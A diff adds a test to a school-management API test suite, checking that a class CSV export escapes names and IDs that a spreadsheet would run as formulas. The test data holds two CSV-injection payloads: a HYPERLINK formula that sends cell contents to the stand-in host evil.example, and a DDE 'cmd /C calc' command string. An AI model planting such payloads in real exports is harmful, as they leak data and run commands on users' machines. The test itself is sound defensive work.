@@ -186,6 +186,23 @@ for (const driver of drivers) {
       });
     });
 
+    describe('CSV exports', () => {
+      it('write a name or ID that a spreadsheet would run as a formula as text', async () => {
+        const schoolClass = await call(t, teacher, 'POST', '/api/classes', { name: 'Year 11', year_group: 'Year 11' });
+        expect(schoolClass.status).toBe(201);
+        // Names as a hostile import file or a student's own sign-up could bring them.
+        const hostile = { name: '=HYPERLINK("https://evil.example/?"&A1,"Open")', student_id: '@SUM(1+1)*cmd|\' /C calc\'!A0', class_id: schoolClass.body.id };
+        expect((await call(t, teacher, 'POST', '/api/students/students', hostile)).status).toBe(201);
+        const response = await fetch(`${t.url}/api/classes/${schoolClass.body.id}/export`, { headers: { authorization: `Bearer ${teacher.token}` } });
+        expect(response.status).toBe(200);
+        const csv = (await response.text()).replace(/^\uFEFF/, '');
+        expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
+        expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
+        // No cell of any line starts with a formula character, quoted or not.
+        for (const line of csv.split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+      });
+    });
+
     describe('NUL bytes', () => {
       it('answers a NUL in an invitation code with a 400 and a readable detail', async () => {
         for (const [method, path] of [
